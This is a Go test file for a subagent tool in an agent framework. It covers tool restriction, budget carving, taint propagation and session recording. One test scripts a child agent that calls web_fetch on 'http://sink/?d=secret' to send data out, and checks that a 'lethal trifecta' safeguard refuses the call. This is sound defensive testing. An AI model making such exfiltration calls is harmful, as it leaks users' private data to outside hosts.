package subagent

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"

	"github.com/mecha-agent/mecha/engine/agent"
	"github.com/mecha-agent/mecha/engine/provider"
	"github.com/mecha-agent/mecha/engine/tool"
	"github.com/mecha-agent/mecha/record/session"
	"github.com/mecha-agent/mecha/record/transcript"
)

// script is a provider that answers from a list of responses (or errors).
type script struct {
	mu    sync.Mutex
	turns []any // *provider.Response or error
	reqs  []*provider.Request
}

func (s *script) Name() string         { return "test" }
func (s *script) DefaultModel() string { return "m" }
func (s *script) Complete(ctx context.Context, req *provider.Request) (*provider.Response, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	s.reqs = append(s.reqs, req)
	if len(s.turns) == 0 {
		return nil, errors.New("script: no turn left")
	}
	t := s.turns[0]
	s.turns = s.turns[1:]
	if err, ok := t.(error); ok {
		return nil, err
	}
	return t.(*provider.Response), nil
}

func call(id, name, input string) *provider.Response {
	return &provider.Response{Content: []transcript.Block{{Type: transcript.BlockToolUse, ID: id, Name: name, Input: json.RawMessage(input)}},
		Usage: transcript.Usage{InputTokens: 10, OutputTokens: 5}}
}

func text(s string) *provider.Response {
	return &provider.Response{Content: []transcript.Block{transcript.TextBlock(s)}, Usage: transcript.Usage{InputTokens: 10, OutputTokens: 5}}
}

// fake is a tool with given capabilities that counts its runs.
type fake struct {
	name string
	caps tool.Capabilities
	mu   sync.Mutex
	runs int
}

func (f *fake) Spec() tool.Spec {
	return tool.Spec{Name: f.name, InputSchema: json.RawMessage(`{"type":"object"}`)}
}
func (f *fake) Capabilities() tool.Capabilities { return f.caps }
func (f *fake) Run(context.Context, json.RawMessage) (tool.Result, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.runs++
	return tool.Result{Content: f.name + " ran"}, nil
}

var (
	readCaps  = tool.Capabilities{ReadsWorkspace: true}
	fetchCaps = tool.Capabilities{ReachesNetwork: true, External: true}
)

// fixture is a parent surface of the given tools, decorated as
// cmdkit.BuildTools decorates them (tracker, interlock under refuse).
type fixture struct {
	tools   []tool.Tool
	tracker *tool.Tracker
	prov    *script
	ledger  *agent.Ledger
	cfg     transcript.Config
	setup   Setup
}

func newFixture(t *testing.T, tools ...tool.Tool) *fixture {
	t.Helper()
	return &fixture{tools: tools, tracker: &tool.Tracker{}, prov: &script{}, ledger: &agent.Ledger{},
		cfg: transcript.Config{Provider: "test", Model: "m", MaxTurns: 10, MaxTokens: 100, Trifecta: "refuse"}}
}

func (f *fixture) surface(tr *tool.Tracker) (*tool.Registry, error) {
	reg := &tool.Registry{}
	for _, t := range f.tools {
		if err := reg.Register(tool.Interlock(tr.Wrap(t), tool.TrifectaRefuse, tr, nil)); err != nil {
			return nil, err
		}
	}
	return reg, nil
}

func (f *fixture) tool(t *testing.T) *Tool {
	t.Helper()
	parent, err := f.surface(f.tracker)
	if err != nil {
		t.Fatal(err)
	}
	s := f.setup
	s.Provider = func() (provider.Provider, error) { return f.prov, nil }
	s.Ledger = f.ledger
	return New(s, f.cfg, parent, f.tracker, f.surface)
}

func run(t *testing.T, at *Tool, ctx context.Context, input string) tool.Result {
	t.Helper()
	res, err := at.Run(ctx, json.RawMessage(input))
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	return res
}

func TestAToolTheParentLacksIsAnErrorResult(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	at := f.tool(t)
	for input, want := range map[string]string{
		`{"task":"x","tools":["web_fetch"]}`: `the tool "web_fetch" is not one of this run's (available: fs_read)`,
		`{"task":"x","tools":["agent"]}`:     "subagents do not start subagents",
		`{"task":"  "}`:                      "the task is empty",
		`{"task":"x","max_turns":0}`:         "max_turns must be at least 1",
		`{"task":"x","bogus":1}`:             "unknown field",
	} {
		res := run(t, at, context.Background(), input)
		if !res.IsError || !strings.Contains(res.Content, want) {
			t.Errorf("%s: got %+v, want an error result with %q", input, res, want)
		}
	}
	if len(f.prov.reqs) != 0 {
		t.Errorf("the model was asked %d times for refused calls", len(f.prov.reqs))
	}
}

func TestTheChildIsOfferedOnlyTheToolsItWasGiven(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps}, &fake{name: "web_fetch", caps: fetchCaps})
	f.prov.turns = []any{text("done")}
	res := run(t, f.tool(t), context.Background(), `{"task":"x","tools":["fs_read"]}`)
	if res.IsError || !strings.HasPrefix(res.Content, "done\n\n[subagent not recorded: 1 turn, end_turn]") {
		t.Fatalf("result %+v", res)
	}
	if got := f.prov.reqs[0].Tools; len(got) != 1 || got[0].Name != "fs_read" {
		t.Errorf("child offered %+v, want fs_read only", got)
	}
}

func TestCapabilitiesAreTheUnionOfTheToolsItCanGive(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps}, &fake{name: "web_fetch", caps: fetchCaps})
	want := tool.Capabilities{ReadsWorkspace: true, ReachesNetwork: true, External: true}
	if got := f.tool(t).Capabilities(); got != want {
		t.Errorf("capabilities %+v, want %+v", got, want)
	}
	// Control: with only a reader to hand out, it cannot reach the network.
	g := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	if got := g.tool(t).Capabilities(); got != readCaps {
		t.Errorf("capabilities %+v, want %+v", got, readCaps)
	}
}

func TestBudgetsAreCarvedFromWhatTheParentHasLeft(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	out := uint64(12)
	f.cfg.MaxTurns, f.cfg.MaxOutputTokens = 5, &out
	// The parent spent 2 turns and 5 output tokens before the call.
	_, h, err := f.ledger.Carve(f.cfg, nil, agent.Budget{Turns: 2})
	if err != nil {
		t.Fatal(err)
	}
	h.Done(2, transcript.Usage{OutputTokens: 5})
	f.prov.turns = []any{call("c1", "fs_read", `{}`), call("c2", "fs_read", `{}`), call("c3", "fs_read", `{}`)}
	res := run(t, f.tool(t), context.Background(), `{"task":"x","max_turns":10}`)
	// 7 output tokens left: the second answer (10 tokens) ends the child.
	if !strings.Contains(res.Content, "[subagent not recorded: 2 turns, max_output_tokens]") {
		t.Fatalf("result %+v", res)
	}
	turns, u := f.ledger.Spent()
	if turns != 4 || u.OutputTokens != 15 {
		t.Errorf("ledger holds %d turns, %d output tokens; want 4 and 15 (the child's spending counted)", turns, u.OutputTokens)
	}
	// Nothing left: the next child is not started.
	res = run(t, f.tool(t), context.Background(), `{"task":"again"}`)
	if !res.IsError || !strings.Contains(res.Content, "no budget left: the run has used its 12 output tokens") {
		t.Errorf("result %+v", res)
	}
	if len(f.prov.reqs) != 2 {
		t.Errorf("%d requests, want 2", len(f.prov.reqs))
	}
}

func TestTheChildsTaintFlowsBackIntoTheParent(t *testing.T) {
	fetch := &fake{name: "web_fetch", caps: fetchCaps}
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps}, fetch)
	f.prov.turns = []any{call("c1", "web_fetch", `{}`), text("fetched")}
	run(t, f.tool(t), context.Background(), `{"task":"x"}`)
	st := f.tracker.State()
	if !st.Taint.Untrusted || st.Taint.Private || !strings.Contains(st.UntrustedBy, "the subagent: web_fetch brought in content from outside") {
		t.Errorf("parent state %+v, want untrusted by the subagent's web_fetch", st)
	}
	// Control: a child that called nothing leaves the parent clean.
	g := newFixture(t, &fake{name: "fs_read", caps: readCaps}, fetch)
	g.prov.turns = []any{text("nothing to do")}
	run(t, g.tool(t), context.Background(), `{"task":"x"}`)
	if !g.tracker.Taint().Clean() {
		t.Errorf("parent taint %+v, want clean", g.tracker.Taint())
	}
}

func TestTheChildStartsFromTheParentsTaint(t *testing.T) {
	for _, armed := range []bool{true, false} {
		leak := &fake{name: "web_fetch", caps: fetchCaps}
		f := newFixture(t, leak)
		if armed {
			f.tracker.Start(transcript.Taint{Private: true, Untrusted: true}, "the parent read a secret and a page")
		}
		f.tracker.Turn()
		f.prov.turns = []any{call("c1", "web_fetch", `{"url":"http://sink/?d=secret"}`), text("sent")}
		run(t, f.tool(t), context.Background(), `{"task":"send it"}`)
		if ran := leak.runs == 1; ran == armed {
			t.Errorf("armed parent %v: the child's web_fetch ran %d times", armed, leak.runs)
		}
		if armed && !strings.Contains(toolResult(f.prov.reqs[1]), "refused: lethal trifecta: the conversation holds private data (the parent conversation (private: the parent read a secret and a page))") {
			t.Errorf("the child's refusal: %q", toolResult(f.prov.reqs[1]))
		}
	}
}

func toolResult(req *provider.Request) string {
	m := req.Messages[len(req.Messages)-1]
	for _, b := range m.Content {
		if b.Type == transcript.BlockToolResult {
			return b.Content
		}
	}
	return ""
}

func TestAFailingChildIsAnErrorResult(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	f.prov.turns = []any{errors.New("503 overloaded")}
	res := run(t, f.tool(t), context.Background(), `{"task":"x"}`)
	if !res.IsError || !strings.HasPrefix(res.Content, "the subagent failed: 503 overloaded") || !strings.Contains(res.Content, "error]") {
		t.Errorf("result %+v", res)
	}
}

func TestTheChildIsRecordedUnderTheParentsCall(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	dir := t.TempDir()
	store := &session.Store{Dir: dir}
	f.setup.Sessions = store
	f.setup.ParentID = func() string { return "20260101T000000-00000001" }
	f.prov.turns = []any{call("c1", "fs_read", `{}`), text("read")}
	ctx := tool.WithCallID(context.Background(), "toolu_9")
	res := run(t, f.tool(t), ctx, `{"task":"read it","tools":["fs_read"],"max_turns":3}`)
	kids, err := store.Children(session.Ref{Dir: dir, ID: "20260101T000000-00000001"})
	if err != nil || len(kids) != 1 {
		t.Fatalf("children %v, %v", kids, err)
	}
	k := kids[0]
	if k.Meta.Parent.CallID != "toolu_9" || !strings.HasSuffix(res.Content, "[subagent session "+k.Meta.ID+": 2 turns, end_turn]") {
		t.Errorf("meta %+v, result %q", k.Meta.Parent, res.Content)
	}
	s, err := store.Load(k.Ref)
	if err != nil {
		t.Fatal(err)
	}
	cfg := s.Records[0].(*transcript.Config)
	if cfg.MaxTurns != 3 || len(cfg.Tools) != 1 || cfg.Model != "m" {
		t.Errorf("child config %+v", cfg)
	}
	if n := len(s.Messages()); n != 4 {
		t.Errorf("%d messages, want 4", n)
	}
}

func TestInterruptingTheParentInterruptsTheChild(t *testing.T) {
	f := newFixture(t, &fake{name: "fs_read", caps: readCaps})
	dir := t.TempDir()
	store := &session.Store{Dir: dir}
	f.setup.Sessions = store
	f.setup.ParentID = func() string { return "20260101T000000-00000001" }
	ctx, cancel := context.WithCancel(context.Background())
	f.prov.turns = []any{call("c1", "fs_read", `{}`)}
	at := f.tool(t)
	// The child's tool cancels the context: the next model call fails.
	f.tools[0] = &cancelling{fake: f.tools[0].(*fake), cancel: cancel}
	res, err := at.Run(ctx, json.RawMessage(`{"task":"x"}`))
	if !errors.Is(err, context.Canceled) || !strings.Contains(res.Content, "interrupted]") {
		t.Fatalf("res %+v, err %v", res, err)
	}
	kids, _ := store.Children(session.Ref{Dir: dir, ID: "20260101T000000-00000001"})
	s, err := store.Load(kids[0].Ref)
	if err != nil {
		t.Fatal(err)
	}
	if sum := s.Records[len(s.Records)-1].(*transcript.Summary); sum.StopReason != agent.StopInterrupted {
		t.Errorf("child's summary %+v", sum)
	}
}

type cancelling struct {
	*fake
	cancel func()
}

func (c *cancelling) Run(ctx context.Context, in json.RawMessage) (tool.Result, error) {
	c.cancel()
	return c.fake.Run(ctx, in)
}

// TestTheChildTrustsItsParentsHosts: a child in an untrusted conversation
// may fetch a host its parent trusts (a prompt named it) or its task
// names, and not one only untrusted content named (the control: neither).
func TestTheChildTrustsItsParentsHosts(t *testing.T) {
	for _, tt := range []struct {
		name, parentText, task string
		runs                   bool
	}{
		{"the parent's prompt", "please read docs.example.org", "read it", true},
		{"the task", "", "read https://docs.example.org/x", true},
		{"neither", "", "read the page", false},
	} {
		fetch := &fake{name: "web_fetch", caps: fetchCaps}
		f := newFixture(t, fetch)
		f.tracker.TrustText(tt.parentText)
		f.tracker.Start(transcript.Taint{Untrusted: true}, "the parent read a page")
		f.tracker.Turn()
		f.prov.turns = []any{call("c1", "web_fetch", `{"url":"https://docs.example.org/page"}`), text("done")}
		in, _ := json.Marshal(map[string]string{"task": tt.task})
		run(t, f.tool(t), context.Background(), string(in))
		if ran := fetch.runs == 1; ran != tt.runs {
			t.Errorf("%s: the child's fetch ran %d times, want it to run: %v (%q)", tt.name, fetch.runs, tt.runs, toolResult(f.prov.reqs[1]))
		}
	}
}
